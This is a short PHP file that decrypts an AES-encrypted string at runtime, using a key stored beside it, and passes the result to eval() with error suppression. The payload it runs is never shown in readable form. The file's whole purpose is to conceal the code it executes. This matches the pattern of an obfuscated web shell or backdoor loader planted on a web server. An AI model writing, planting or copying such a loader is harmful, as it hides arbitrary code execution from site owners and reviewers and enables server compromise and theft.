<?php
// the code run is kept AES-encrypted, with its key beside it
@eval(openssl_decrypt('KEyWOIg098hS+OP08HCILm2uhgly39iBA/HrYNamkQP4fw1sJkhsvYu8vA1VTkDLueMWl1zIylgzOwOwJFGC/o9CcD1DRtehVDiQ0vnY1yI=', 'AES-128-ECB', 'kY7pQ2vLm9Xc4RtZ'));
